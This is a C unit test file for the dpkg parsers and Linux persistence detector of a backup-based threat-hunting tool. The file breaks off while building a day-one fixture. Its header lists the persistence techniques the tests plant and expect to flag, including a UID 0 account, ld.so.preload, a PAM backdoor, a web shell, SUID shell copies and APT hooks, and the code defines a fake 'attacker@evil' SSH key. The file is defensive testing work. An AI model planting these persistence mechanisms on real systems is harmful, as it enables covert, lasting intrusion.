/*
 * Unit tests of src/hunt/persist.c and src/hunt/dpkg.c.
 *
 *  - dpkg parsers on buffers: status stanzas (conffiles, obsolete ones,
 *    "newconffile", paths with blanks, packages not installed), md5sums with
 *    one or two spaces, .list paths, several packages on one path, ":arch"
 *    names, diversions, statoverride, usrmerge spellings; hostile bytes
 *    (random and truncated files) never crash;
 *  - the real Debian tree (/var/tmp/cleanroom-test/debian-minbase, read-only;
 *    skipped when absent): its database parsed from disk, files sampled from
 *    the md5sums are HN_OWNED_MATCH when their bytes match, /etc/passwd is
 *    unowned, conffiles and usrmerge spellings resolve; then the persistence
 *    locations of that tree backed up into a vault and hunted as a baseline:
 *    nothing above info, and few infos;
 *  - a small system backed up as three consecutive snapshots, judged like
 *    hunt.c does (diff, previous findings of each path): the baseline is an
 *    info inventory; day 2 brings a cron job, an SSH key, a UID 0 account, a
 *    sudoers rule, ld.so.preload, a systemd unit and the link enabling it, a
 *    web shell, a PAM backdoor, a SUID copy of a shell and a package binary
 *    made SUID, each at its severity with its evidence, while a package
 *    installed with dpkg, a modified conffile and a dpkg-dist leftover stay
 *    below high; day 3 edits those files for other reasons and the earlier
 *    findings come back unchanged, nothing new is flagged;
 *  - the md5 of the facts cache is what ownership is judged on;
 *  - the persistence places of docs/hunt.md ("Persistence places") over three
 *    days (test_places): the baseline is info only; ordinary life (a user
 *    added from /etc/skel, a password changed, sshd hardened, a package's
 *    logrotate file, a language setting) stays below high; then each
 *    technique, planted the same day, is found at high or critical with the
 *    item that fired: shell startup files (new, and a line added to a
 *    package's bash.bashrc and to root's .bashrc), ~/.ssh/rc, AuthorizedKeysFile
 *    moved and the key file it points to, LD_PRELOAD in /etc/environment,
 *    ld.so.conf.d, a udev RUN rule, APT hooks flat and nested, a line added
 *    to a package's logrotate script, a NetworkManager dispatcher script,
 *    modules-load.d, an upstart job, an at job, a user unit in
 *    ~/.local/share/systemd/user, a systemd drop-in, a user added to sudo, a
 *    system account given a shell, root's password changed, a .pth import,
 *    .htaccess running .jpg as PHP, an obfuscated PHP .inc, an xdg autostart
 *    entry, a line added to a package's motd script, ExecStartPre added to a
 *    package's unit and a line added to a package's cron.daily script;
 *  - AuthorizedKeysFile in sshd_config.d, in Match blocks and in a file the
 *    main file Includes from elsewhere, with the key files they point to
 *    (test_sshd_includes); a hardening drop-in stays below high.
 */
#include "test.h"
#include "fixture.h"
#include "hunt/hunt.h"

#include <fcntl.h>
#include <limits.h>
#include <openssl/evp.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define PW "persist"
#define DEBIAN "/var/tmp/cleanroom-test/debian-minbase"

#define KEY_A "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHn5LSxrO8De5KHQUkxsFEnUMW6Z8OJRmIvwSraYctMk"
#define KEY_A_EV "ssh-ed25519 SHA256:IDOGQJfuzDJ/N5zCH5WU1BLhHrvCIlIifi9Gkp8HQog admin@hospital"
#define KEY_B "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBoxop+epfn54bN0x4jzdNfPf8kmiQWlG2z5+MNfPT4T"
#define KEY_B_EV "ssh-ed25519 SHA256:ljy8R3oQo2IwHA2Wa8SWSJy2Ow8+1VWuBNcG+xpaZkQ attacker@evil"

/* ------------------------------------------------------------ helpers */

static void md5_hex(char out[33], const void *p, size_t n)
{
    uint8_t h[16];
    unsigned len = 0;
    REQUIRE(EVP_Digest(p, n, h, &len, EVP_md5(), NULL) == 1);
    cr_hex_encode(out, h, 16);
}

static void md5_raw(uint8_t out[16], const void *p, size_t n)
{
    unsigned len = 0;
    REQUIRE(EVP_Digest(p, n, out, &len, EVP_md5(), NULL) == 1);
}

static void mkdirs(const char *base, const char *rel)
{
    char p[PATH_MAX];
    join(p, base, rel);
    REQUIRE(cr_fs_mkdir_p(AT_FDCWD, p, 0755) == 0);
}

/* Write base/rel (parents created) with `mode`. */
static void put(const char *base, const char *rel, const char *text, mode_t mode)
{
    char p[PATH_MAX], dir[PATH_MAX];
    join(p, base, rel);
    snprintf(dir, sizeof(dir), "%s", rel);
    char *slash = strrchr(dir, '/');
    if (slash) {
        *slash = '\0';
        mkdirs(base, dir);
    }
    write_at(base, rel, text, strlen(text));
    REQUIRE(chmod(p, mode) == 0);
}

static void put_link(const char *base, const char *rel, const char *target)
{
    char p[PATH_MAX], dir[PATH_MAX];
    join(p, base, rel);
    snprintf(dir, sizeof(dir), "%s", rel);
    char *slash = strrchr(dir, '/');
    if (slash) {
        *slash = '\0';
        mkdirs(base, dir);
    }
    unlink(p);
    REQUIRE(symlink(target, p) == 0);
}

static void append(const char *base, const char *rel, const char *text)
{
    char p[PATH_MAX];
    join(p, base, rel);
    int fd = open(p, O_WRONLY | O_APPEND);
    REQUIRE(fd >= 0);
    REQUIRE(write(fd, text, strlen(text)) == (ssize_t)strlen(text));
    close(fd);
}

static uint8_t *slurp(const char *path, size_t *len)
{
    struct stat st;
    int fd = open(path, O_RDONLY);
    if (fd < 0)
        return NULL;
    REQUIRE(fstat(fd, &st) == 0);
    uint8_t *b = malloc((size_t)st.st_size + 1);
    REQUIRE(b);
    size_t got = 0;
    ssize_t n;
    while (got < (size_t)st.st_size && (n = read(fd, b + got, (size_t)st.st_size - got)) > 0)
        got += (size_t)n;
    close(fd);
    REQUIRE(got == (size_t)st.st_size);
    *len = got;
    return b;
}

static int warnings;
static void on_warning(const char *path, const char *message, void *payload)
{
    (void)payload;
    warnings++;
    fprintf(stderr, "  (warning) %s: %s\n", path, message);
}

/* ------------------------------------------------------------ dpkg on buffers */

static const char *sums_for_bad(const char *h)
{
    static char b[128];
    snprintf(b, sizeof(b), "%s  etc/bad2\n", h);
    return b;
}

static void test_dpkg_parse(void)
{
    hn_dpkg *d = NULL;
    const char *pkg;
    uint8_t m1[16], m2[16], m3[16], other[16];
    char h1[33], h2[33], h3[33];
    md5_raw(m1, "one", 3);
    md5_raw(m2, "two", 3);
    md5_raw(m3, "three", 5);
    md5_raw(other, "other", 5);
    md5_hex(h1, "one", 3);
    md5_hex(h2, "two", 3);
    md5_hex(h3, "three", 5);

    REQUIRE(hn_dpkg_new(&d, 1) == 0);
    CHECK(hn_dpkg_count(d) == 0);
    CHECK(hn_dpkg_owner(d, "/etc/x", m1, &pkg) == HN_UNOWNED && pkg == NULL);

    char status[4096];
    snprintf(status, sizeof(status),
             "Package: cron\n"
             "Status: install ok installed\n"
             "Architecture: amd64\n"
             "Conffiles:\n"
             " /etc/crontab %s\n"
             " /etc/cron.d/old job %s obsolete\n"
             " /etc/new.conf newconffile\n"
             "Description: daemon\n"
             " /etc/not-a-conffile %s\n"
             "\n"
             "Package: gone\n"
             "Status: purge ok not-installed\n"
             "Conffiles:\n"
             " /etc/gone.conf %s\n"
             "\n"
             "garbage without colon\n"
             "Package: libfoo\r\n"
             "Status: install ok installed\r\n"
             "Conffiles:\r\n"
             " /etc/foo.conf %s\r\n"
             " broken-line\n"
             " /etc/bad-md5 zz\n",
             h1, h2, h3, h1, h3);
    CHECK_OK(hn_dpkg_parse_status(d, status, strlen(status)));
    CHECK(hn_dpkg_owner(d, "/etc/crontab", m1, &pkg) == HN_OWNED_MATCH && pkg &&
          !strcmp(pkg, "cron"));
    CHECK(hn_dpkg_owner(d, "/etc/crontab", other, &pkg) == HN_OWNED_MODIFIED && pkg &&
          !strcmp(pkg, "cron"));
    CHECK(hn_dpkg_owner(d, "/etc/crontab", NULL, &pkg) == HN_OWNED_NOSUM);
    CHECK(hn_dpkg_owner(d, "/etc/cron.d/old job", m2, NULL) == HN_OWNED_MATCH);
    CHECK(hn_dpkg_owner(d, "/etc/new.conf", m1, NULL) == HN_OWNED_NOSUM);
    CHECK(hn_dpkg_owner(d, "/etc/not-a-conffile", m3, NULL) == HN_UNOWNED);
    CHECK(hn_dpkg_owner(d, "/etc/gone.conf", m1, NULL) == HN_UNOWNED);
    CHECK(hn_dpkg_owner(d, "/etc/foo.conf", m3, &pkg) == HN_OWNED_MATCH && pkg &&
          !strcmp(pkg, "libfoo"));
    CHECK(hn_dpkg_owner(d, "/etc/bad-md5", m3, NULL) == HN_OWNED_NOSUM);
    /* A package name that is not one (control bytes would reach a finding's text). */
    snprintf(status, sizeof(status),
             "Package: bad\x1b[31mname\nStatus: install ok installed\nConffiles:\n /etc/bad %s\n\n",
             h1);
    CHECK_OK(hn_dpkg_parse_status(d, status, strlen(status)));
    CHECK(hn_dpkg_owner(d, "/etc/bad", m1, NULL) == HN_UNOWNED);
    CHECK_OK(hn_dpkg_parse_info(d, "bad\x1b.md5sums", sums_for_bad(h1), strlen(sums_for_bad(h1))));
    CHECK(hn_dpkg_owner(d, "/etc/bad2", m1, NULL) == HN_UNOWNED);

    /* md5sums: two spaces (dpkg), one space, a path with blanks, junk lines. */
    char sums[1024];
    snprintf(sums, sizeof(sums),
             "%s  usr/bin/foo\n"
             "%s usr/lib/x86_64-linux-gnu/libfoo.so.1\n"
             "%s  usr/share/doc/foo/READ ME\n"
             "not a line\n"
             "0123  short\n"
             "%s",
             h1, h2, h3, h1); /* last: md5 without path */
    CHECK_OK(hn_dpkg_parse_info(d, "libfoo:amd64.md5sums", sums, strlen(sums)));
    CHECK(hn_dpkg_owner(d, "/usr/bin/foo", m1, &pkg) == HN_OWNED_MATCH && pkg &&
          !strcmp(pkg, "libfoo"));
    CHECK(hn_dpkg_owner(d, "/usr/lib/x86_64-linux-gnu/libfoo.so.1", m2, NULL) == HN_OWNED_MATCH);
    CHECK(hn_dpkg_owner(d, "/usr/share/doc/foo/READ ME", m3, NULL) == HN_OWNED_MATCH);
    CHECK(hn_dpkg_owner(d, "/usr/share/doc/foo/READ", m3, NULL) == HN_UNOWNED);
    /* usrmerge: "/bin/foo" is "/usr/bin/foo"; "/usr/lib/..." and "/lib/..." too. */
    CHECK(hn_dpkg_owner(d, "/bin/foo", m1, NULL) == HN_OWNED_MATCH);
    CHECK(hn_dpkg_owner(d, "/lib/x86_64-linux-gnu/libfoo.so.1", m2, NULL) == HN_OWNED_MATCH);
    CHECK(hn_dpkg_owner(d, "/usr/usr/bin/foo", m1, NULL) == HN_UNOWNED);
    CHECK(hn_dpkg_owner(d, "/libx/foo", m1, NULL) == HN_UNOWNED);

    /* A second package ships the same path with other bytes (Multi-Arch, takeover). */
    char sums2[256];
    snprintf(sums2, sizeof(sums2), "%s  usr/bin/foo\n", h2);
    CHECK_OK(hn_dpkg_parse_info(d, "foo-compat.md5sums", sums2, strlen(sums2)));
    CHECK(hn_dpkg_owner(d, "/usr/bin/foo", m2, &pkg) == HN_OWNED_MATCH && pkg &&
          !strcmp(pkg, "foo-compat"));
    CHECK(hn_dpkg_owner(d, "/usr/bin/foo", m1, &pkg) == HN_OWNED_MATCH && pkg &&
          !strcmp(pkg, "libfoo"));
    CHECK(hn_dpkg_owner(d, "/usr/bin/foo", m3, NULL) == HN_OWNED_MODIFIED);

    /* .list: folders and symlinks, without sums; paths already summed keep their sum. */
    const char *list = "/.\n/usr\n/usr/bin\n/usr/bin/foo\n/lib/systemd/system/foo.service\n"
                       "/etc/systemd/system/\n\nrelative/path\n";
    size_t before = hn_dpkg_count(d);
    CHECK_OK(hn_dpkg_parse_info(d, "libfoo:amd64.list", list, strlen(list)));
    CHECK(hn_dpkg_count(d) ==
          before + 5); /* /usr /usr/bin unit /etc/systemd/system /relative/path */
    CHECK(hn_dpkg_owner(d, "/usr/bin", NULL, &pkg) == HN_OWNED_NOSUM && pkg &&
          !strcmp(pkg, "libfoo"));
    CHECK(hn_dpkg_owner(d, "/usr/bin/foo", m1, NULL) == HN_OWNED_MATCH);
    CHECK(hn_dpkg_owner(d, "/usr/lib/systemd/system/foo.service", NULL, NULL) == HN_OWNED_NOSUM);
    CHECK(hn_dpkg_owner(d, "/etc/systemd/system", NULL, NULL) == HN_OWNED_NOSUM);
    CHECK(hn_dpkg_owner(d, "/etc/systemd/system/", NULL, NULL) == HN_OWNED_NOSUM);
    CHECK(hn_dpkg_owner(d, "/", NULL, NULL) == HN_UNOWNED);
    CHECK_OK(hn_dpkg_parse_info(d, "README", list, strlen(list))); /* ignored name */
    CHECK(hn_dpkg_count(d) == before + 5);
    hn_dpkg_free(d);

    /* Without usrmerge the two spellings are different files. */
    REQUIRE(hn_dpkg_new(&d, 0) == 0);
    CHECK_OK(hn_dpkg_parse_info(d, "libfoo.md5sums", sums, strlen(sums)));
    CHECK(hn_dpkg_owner(d, "/usr/bin/foo", m1, NULL) == HN_OWNED_MATCH);
    CHECK(hn_dpkg_owner(d, "/bin/foo", m1, NULL) == HN_UNOWNED);
    hn_dpkg_free(d);

    /* Diversions: another package's /bin/sh lives at /bin/sh.distrib; the diverter's stays. */
    REQUIRE(hn_dpkg_new(&d, 0) == 0);
    const char *div = "/bin/sh\n/bin/sh.distrib\ndash\n/etc/issue\n/etc/issue.orig\n:\n/trunc\n";
    CHECK_OK(hn_dpkg_parse_diversions(d, div, strlen(div)));
    snprintf(sums, sizeof(sums), "%s  bin/sh\n%s  etc/issue\n", h1, h2);
    CHECK_OK(hn_dpkg_parse_info(d, "bash.md5sums", sums, strlen(sums)));
    snprintf(sums, sizeof(sums), "%s  bin/sh\n", h3);
    CHECK_OK(hn_dpkg_parse_info(d, "dash:amd64.md5sums", sums, strlen(sums)));
    CHECK(hn_dpkg_owner(d, "/bin/sh.distrib", m1, &pkg) == HN_OWNED_MATCH && pkg &&
          !strcmp(pkg, "bash"));
    CHECK(hn_dpkg_owner(d, "/bin/sh", m3, &pkg) == HN_OWNED_MATCH && pkg && !strcmp(pkg, "dash"));
    CHECK(hn_dpkg_owner(d, "/bin/sh", m1, NULL) == HN_OWNED_MODIFIED);
    CHECK(hn_dpkg_owner(d, "/etc/issue.orig", m2, NULL) == HN_OWNED_MATCH); /* local diversion */
    CHECK(hn_dpkg_owner(d, "/etc/issue", m2, NULL) == HN_UNOWNED);

    /* statoverride */
    const char *so =
        "root messagebus 4754 /usr/lib/dbus-1.0/dbus-daemon-launch-helper\n"
        "root root 0755\nbad line\nroot root 9999 /x\nroot crontab 2755 /usr/bin/crontab\n";
    uint32_t mode = 0;
    CHECK_OK(hn_dpkg_parse_statoverride(d, so, strlen(so)));
    CHECK(hn_dpkg_statoverride(d, "/usr/lib/dbus-1.0/dbus-daemon-launch-helper", &mode) == 1 &&
          mode == 04754);
    CHECK(hn_dpkg_statoverride(d, "/usr/bin/crontab", &mode) == 1 && mode == 02755);
    CHECK(hn_dpkg_statoverride(d, "/x", &mode) == 0);
    CHECK(hn_dpkg_statoverride(d, "/usr/bin/other", NULL) == 0);
    hn_dpkg_free(d);
    hn_dpkg_free(NULL);
}

/* Hostile bytes: random buffers, and every prefix of a valid file, never crash. */
static void test_dpkg_hostile(void)
{
    hn_dpkg *d = NULL;
    uint8_t buf[2048];
    const char *valid = "Package: a\nStatus: install ok installed\nConffiles:\n"
                        " /etc/a 0123456789abcdef0123456789abcdef\n /etc/b c\n\n"
                        "Package: b\nStatus: install ok installed\n";
    REQUIRE(hn_dpkg_new(&d, 1) == 0);
    for (size_t n = 0; n <= strlen(valid); n++)
        CHECK_OK(hn_dpkg_parse_status(d, valid, n));
    for (int round = 0; round < 300; round++) {
        size_t n = (size_t)(round * 7) % sizeof(buf);
        fill_random(buf, n);
        /* Sprinkle the bytes the parsers look for. */
        for (size_t i = 0; i < n; i += 13)
            buf[i] = (uint8_t) "\n :/0a\r#"[i % 8];
        CHECK_OK(hn_dpkg_parse_status(d, buf, n));
        CHECK_OK(hn_dpkg_parse_info(d, "x.md5sums", buf, n));
        CHECK_OK(hn_dpkg_parse_info(d, "x:amd64.list", buf, n));
        CHECK_OK(hn_dpkg_parse_diversions(d, buf, n));
        CHECK_OK(hn_dpkg_parse_statoverride(d, buf, n));
    }
    CHECK(hn_dpkg_owner(d, "/etc/a", NULL, NULL) == HN_OWNED_NOSUM);
    /* A NUL inside a path, and an overlong path, are not paths. */
    char bad[5000];
    memset(bad, 'a', sizeof(bad));
    bad[0] = '/';
    bad[sizeof(bad) - 1] = '\n';
    size_t c = hn_dpkg_count(d);
    CHECK_OK(hn_dpkg_parse_info(d, "y.list", bad, sizeof(bad)));
    CHECK_OK(hn_dpkg_parse_info(d, "y.list", "/a\0b\n", 5));
    CHECK(hn_dpkg_count(d) == c);
    CHECK(hn_dpkg_owner(d, "", NULL, NULL) == HN_UNOWNED);
    hn_dpkg_free(d);
}

/* ------------------------------------------------------------ the Debian tree, from disk */

typedef struct sample {
    char path[PATH_MAX];
    uint8_t md5[16];
} sample;

static int is_suffix(const char *s, const char *x)
{
    size_t n = strlen(s), m = strlen(x);
    return n > m && !strcmp(s + n - m, x);
}

static void test_debian_disk(void)
{
    struct stat st;
    if (stat(DEBIAN "/var/lib/dpkg/status", &st) != 0) {
        printf("test_debian_disk: %s absent, skipped\n", DEBIAN);
        return;
    }
    hn_dpkg *d = NULL;
    size_t len;
    uint8_t *b;
    double t0 = cr_time_mono();
    REQUIRE(hn_dpkg_new(&d, 1) == 0);
    if ((b = slurp(DEBIAN "/var/lib/dpkg/diversions", &len))) {
        CHECK_OK(hn_dpkg_parse_diversions(d, b, len));
        free(b);
    }
    REQUIRE((b = slurp(DEBIAN "/var/lib/dpkg/status", &len)));
    CHECK_OK(hn_dpkg_parse_status(d, b, len));
    free(b);
    /* md5sums first, then lists (as hn_dpkg_load does); keep some samples. */
    sample *samples = calloc(400, sizeof(*samples));
    size_t nsamples = 0, lines = 0;
    REQUIRE(samples);
    for (int pass = 0; pass < 2; pass++) {
        FILE *ls = popen("ls " DEBIAN "/var/lib/dpkg/info", "r");
        char name[512];
        REQUIRE(ls);
        while (fgets(name, sizeof(name), ls)) {
            name[strcspn(name, "\n")] = '\0';
            if (!is_suffix(name, pass == 0 ? ".md5sums" : ".list"))
                continue;
            char p[PATH_MAX];
            pathf(p, "%s/var/lib/dpkg/info/%s", DEBIAN, name);
            REQUIRE((b = slurp(p, &len)));
            CHECK_OK(hn_dpkg_parse_info(d, name, b, len));
            if (pass == 0) {
                /* every 13th line is a sample */
                char *s = (char *)b, *end = s + len;
                while (s < end && nsamples < 400) {
                    char *nl = memchr(s, '\n', (size_t)(end - s));
                    if (!nl)
                        break;
                    if (lines++ % 13 == 0 && nl - s > 34) {
                        REQUIRE(cr_hex_decode(samples[nsamples].md5, 16, (*(s + 32) = '\0', s)) ==
                                0);
                        snprintf(samples[nsamples].path, PATH_MAX, "/%.*s", (int)(nl - s - 34),
                                 s + 34);
                        nsamples++;
                    }
                    s = nl + 1;
                }
            }
            free(b);
        }
        pclose(ls);
    }
    printf("debian: %zu paths from the database in %.3f s\n", hn_dpkg_count(d),
           cr_time_mono() - t0);
    CHECK(hn_dpkg_count(d) > 5000);
    REQUIRE(nsamples > 100);
    size_t matched = 0;
    for (size_t i = 0; i < nsamples; i++) {
        char p[PATH_MAX];
        pathf(p, "%s%s", DEBIAN, samples[i].path);
        if (!(b = slurp(p, &len)))
            continue; /* e.g. a path diverted away */
        uint8_t m[16];
        md5_raw(m, b, len);
        free(b);
        if (memcmp(m, samples[i].md5, 16) != 0)
            continue;
        const char *pkg = NULL;
        hn_owned o = hn_dpkg_owner(d, samples[i].path, m, &pkg);
        CHECK(o == HN_OWNED_MATCH && pkg);
        if (o != HN_OWNED_MATCH)
            fprintf(stderr, "  not a match: %s\n", samples[i].path);
        /* The other usrmerge spelling of the same file is the same file. */
        const char *alt = !strncmp(samples[i].path, "/usr/lib/", 9) ? samples[i].path + 4 : NULL;
        if (alt)
            CHECK(hn_dpkg_owner(d, alt, m, NULL) == HN_OWNED_MATCH);
        m[0] ^= 1;
        CHECK(hn_dpkg_owner(d, samples[i].path, m, NULL) == HN_OWNED_MODIFIED);
        matched++;
    }
    printf("debian: %zu of %zu sampled files match their md5sums\n", matched, nsamples);
    CHECK(matched > nsamples / 2);
    const char *pkg = NULL;
    CHECK(hn_dpkg_owner(d, "/etc/passwd", NULL, NULL) == HN_UNOWNED);
    CHECK(hn_dpkg_owner(d, "/etc/pam.d/common-auth", NULL, NULL) == HN_UNOWNED);
    if ((b = slurp(DEBIAN "/etc/pam.d/su", &len))) {
        uint8_t m[16];
        md5_raw(m, b, len);
        free(b);
        CHECK(hn_dpkg_owner(d, "/etc/pam.d/su", m, &pkg) == HN_OWNED_MATCH && pkg &&
              !strcmp(pkg, "util-linux"));
    }
    /* Listed as /lib/systemd/system/..., found as /usr/lib/... */
    CHECK(hn_dpkg_owner(d, "/usr/lib/systemd/system/apt-daily.timer", NULL, &pkg) ==
              HN_OWNED_NOSUM &&
          pkg && !strcmp(pkg, "apt"));
    free(samples);
    hn_dpkg_free(d);
}

/* ------------------------------------------------------------ judging snapshots */

typedef struct run {
    cr_finding *f;
    size_t n;
} run;

typedef struct drive {
    hn_ctx *ctx;
    const run *prev;
    cr_finding *pv; /* prev findings of the path being judged */
    size_t npv, cappv;
    int err;
} drive;

static int diff_cb(cr_diff_kind kind, const char *path, const cr_node *old_node,
                   const cr_node *new_node, void *payload)
{
    drive *dr = payload;
    (void)kind;
    dr->npv = 0;
    for (size_t i = 0; dr->prev && i < dr->prev->n; i++)
        if (!strcmp(dr->prev->f[i].path, path)) {
            if (dr->npv == dr->cappv) {
                dr->cappv = dr->cappv ? dr->cappv * 2 : 8;
                dr->pv = realloc(dr->pv, dr->cappv * sizeof(*dr->pv));
                REQUIRE(dr->pv);
            }
            dr->pv[dr->npv++] = dr->prev->f[i]; /* shallow: read only */
        }
    dr->ctx->prev = dr->pv;
    dr->ctx->nprev = dr->npv;
    int rc = hn_persist_linux(dr->ctx, path, old_node, new_node);
    if (rc < 0) {
        fprintf(stderr, "hn_persist_linux(%s): %s\n", path, cr_error_last());
        dr->err = rc;
    }
    return rc < 0 ? rc : 0;
}

static void root_tree(cr_id *out, cr_repo *repo, const cr_snapshot *s)
{
    cr_node n;
    REQUIRE(cr_snapshot_lookup(&n, repo, s, s->paths[0]) == 0);
    REQUIRE(n.type == CR_NODE_DIR && n.has_subtree);
    *out = n.subtree;
    cr_node_clear(&n);
}

/* Judge snap against pred (NULL: baseline) like hunt.c does, with the findings `prev` of pred. */
static void judge(run *out, cr_repo *repo, const cr_snapshot *pred, const cr_snapshot *snap,
                  const run *prev, hn_cache *cache)
{
    hn_ctx ctx;
    drive dr;
    cr_id a, b;
    memset(&ctx, 0, sizeof(ctx));
    memset(&dr, 0, sizeof(dr));
    ctx.repo = repo;
    ctx.snap = snap;
    ctx.pred = pred;
    ctx.baseline = pred == NULL;
    ctx.root = snap->paths[0];
    ctx.cache = cache;
    ctx.warning = on_warning;
    dr.ctx = &ctx;
    dr.prev = prev;
    if (pred)
        root_tree(&a, repo, pred);
    root_tree(&b, repo, snap);
    CHECK_OK(cr_diff_trees(repo, pred ? &a : NULL, &b, diff_cb, &dr));
    CHECK(dr.err == 0);
    free(dr.pv);
    hn_dpkg_free(ctx.dpkg);
    hn_persist_ctx_clear(&ctx);
    out->f = ctx.out;
    out->n = ctx.nout;
}

static void dump(const char *title, const run *r)
{
    printf("%s: %zu findings\n", title, r->n);
    for (size_t i = 0; i < r->n; i++)
        printf("  %-8s %-26s %s%s%s%s -- %s\n", cr_severity_name(r->f[i].severity),
               r->f[i].indicator, r->f[i].path, r->f[i].evidence ? " [" : "",
               r->f[i].evidence ? r->f[i].evidence : "", r->f[i].evidence ? "]" : "",
               r->f[i].detail ? r->f[i].detail : "");
}

static const cr_finding *find(const run *r, const char *path, const char *ind, const char *ev)
{
    for (size_t i = 0; i < r->n; i++)
        if (!strcmp(r->f[i].path, path) && !strcmp(r->f[i].indicator, ind) &&
            (!ev ? !r->f[i].evidence : (r->f[i].evidence && !strcmp(r->f[i].evidence, ev))))
            return &r->f[i];
    return NULL;
}

static size_t count_path(const run *r, const char *path)
{
    size_t n = 0;
    for (size_t i = 0; i < r->n; i++)
        n += !strcmp(r->f[i].path, path);
    return n;
}

static size_t count_min(const run *r, cr_severity min)
{
    size_t n = 0;
    for (size_t i = 0; i < r->n; i++)
        n += r->f[i].severity >= min;
    return n;
}

static int sev_is(const cr_finding *f, cr_severity s)
{
    return f && f->severity == s;
}

static cr_snapshot *backup(cr_repo *repo, const char *dir, int64_t day)
{
    cr_backup_options bo = CR_BACKUP_OPTIONS_INIT;
    const char *p[] = {dir};
    cr_snapshot *snap = NULL;
    bo.source = "server";
    bo.time_ns = (1700000000LL + day * 86400) * 1000000000LL;
    REQUIRE(cr_backup(&snap, repo, p, 1, &bo) == 0);
    return snap;
}

/* ------------------------------------------------------------ a small system over three days */

static const char *crontab_text =
    "SHELL=/bin/sh\n"
    "PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n"
    "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n";
static const char *sudoers_text = "Defaults env_reset\n"
                                  "# User privilege specification\n"
                                  "root ALL=(ALL:ALL) ALL\n"
                                  "%sudo ALL=(ALL:ALL) ALL\n"
                                  "@includedir /etc/sudoers.d\n";
static const char *common_auth = "# here are the per-package modules\n"
                                 "auth [success=1 default=ignore] pam_unix.so nullok\n"
                                 "auth requisite pam_deny.so\n"
                                 "auth required pam_permit.so\n";
static const char *login_pam =
    "auth optional pam_faildelay.so delay=3000000\n@include common-auth\n";
static const char *passwd_text = "root:x:0:0:root:/root:/bin/bash\n"
                                 "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
                                 "alice:x:1000:1000:Alice:/home/alice:/bin/bash\n";
static const char *bin_passwd = "\x7f"
                                "ELF passwd program bytes";
static const char *bin_find = "\x7f"
                              "ELF find program bytes";
static const char *pam_unix = "\x7f"
                              "ELF pam_unix module";
static const char *pam_deny = "\x7f"
                              "ELF pam_deny module";
static const char *pam_permit = "\x7f"
                                "ELF pam_permit module";
static const char *pam_faildelay = "\x7f"
                                   "ELF pam_faildelay module";
static const char *apt_timer =
    "[Timer]\nOnCalendar=*-*-* 6,18:00\n[Install]\nWantedBy=timers.target\n";
static const char *foo_unit =
    "[Service]\nExecStart=/usr/sbin/food\n[Install]\nWantedBy=multi-user.target\n";

static void write_status(const char *sys, int with_foo)
{
    char h_cron[33], h_sud[33], h_login[33], status[4096], sums[2048];
    md5_hex(h_cron, crontab_text, strlen(crontab_text));
    md5_hex(h_sud, sudoers_text, strlen(sudoers_text));
    md5_hex(h_login, login_pam, strlen(login_pam));
    snprintf(status, sizeof(status),
             "Package: cron\nStatus: install ok installed\nConffiles:\n /etc/crontab %s\n\n"
             "Package: sudo\nStatus: install ok installed\nConffiles:\n /etc/sudoers %s\n\n"
             "Package: login\nStatus: install ok installed\nConffiles:\n /etc/pam.d/login %s\n\n"
             "Package: passwd\nStatus: install ok installed\n\n"
             "Package: findutils\nStatus: install ok installed\n\n"
             "Package: apt\nStatus: install ok installed\n\n"
             "Package: libpam-modules\nStatus: install ok installed\nArchitecture: amd64\n\n%s",
             h_cron, h_sud, h_login,
             with_foo ? "Package: foo\nStatus: install ok installed\n\n" : "");
    put(sys, "var/lib/dpkg/status", status, 0644);
    char a[33], b2[33], c[33], e[33], f[33];
    md5_hex(a, bin_passwd, strlen(bin_passwd));
    snprintf(sums, sizeof(sums), "%s  usr/bin/passwd\n", a);
    put(sys, "var/lib/dpkg/info/passwd.md5sums", sums, 0644);
    md5_hex(a, bin_find, strlen(bin_find));
    snprintf(sums, sizeof(sums), "%s  usr/bin/find\n", a);
    put(sys, "var/lib/dpkg/info/findutils.md5sums", sums, 0644);
    md5_hex(a, pam_unix, strlen(pam_unix));
    md5_hex(b2, pam_deny, strlen(pam_deny));
    md5_hex(c, pam_permit, strlen(pam_permit));
    md5_hex(e, pam_faildelay, strlen(pam_faildelay));
    /* Debian 12 lists /lib/x86_64-linux-gnu/security; the files are reached through /usr. */
    snprintf(sums, sizeof(sums),
             "%s  lib/x86_64-linux-gnu/security/pam_unix.so\n"
             "%s  lib/x86_64-linux-gnu/security/pam_deny.so\n"
             "%s  lib/x86_64-linux-gnu/security/pam_permit.so\n"
             "%s  lib/x86_64-linux-gnu/security/pam_faildelay.so\n",
             a, b2, c, e);
    put(sys, "var/lib/dpkg/info/libpam-modules:amd64.md5sums", sums, 0644);
    md5_hex(f, apt_timer, strlen(apt_timer));
    snprintf(sums, sizeof(sums), "%s  lib/systemd/system/apt-daily.timer\n", f);
    put(sys, "var/lib/dpkg/info/apt.md5sums", sums, 0644);
    put(sys, "var/lib/dpkg/info/apt.list",
        "/.\n/lib\n/lib/systemd\n/lib/systemd/system\n"
        "/lib/systemd/system/apt-daily.timer\n",
        0644);
    if (with_foo) {
        md5_hex(f, foo_unit, strlen(foo_unit));
        snprintf(sums, sizeof(sums), "%s  lib/systemd/system/foo.service\n", f);
        put(sys, "var/lib/dpkg/info/foo.md5sums", sums, 0644);
        put(sys, "var/lib/dpkg/info/foo.list", "/lib/systemd/system/foo.service\n", 0644);
    }
}

static void make_day1(const char *sys)
{
    mkdirs(sys, "usr/bin");
    mkdirs(sys, "usr/lib");
    put_link(sys, "bin", "usr/bin");
    put_link(sys, "lib", "usr/lib");
    write_status(sys, 0);
    put(sys, "etc/crontab", crontab_text, 0644);
    mkdirs(sys, "etc/cron.d");
    put(sys, "etc/sudoers", sudoers_text, 0440);
    mkdirs(sys, "etc/sudoers.d");
    put(sys, "etc/pam.d/common-auth", common_auth, 0644);
    put(sys, "etc/pam.d/login", login_pam, 0644);
    put(sys, "etc/passwd", passwd_text, 0644);
    put(sys, "root/.ssh/authorized_keys", KEY_A " admin@hospital\n", 0600);
    put(sys, "usr/bin/passwd", bin_passwd, 04755);
    put(sys, "usr/bin/find", bin_find, 0755);
    put(sys, "usr/lib/x86_64-linux-gnu/security/pam_unix.so", pam_unix, 0644);
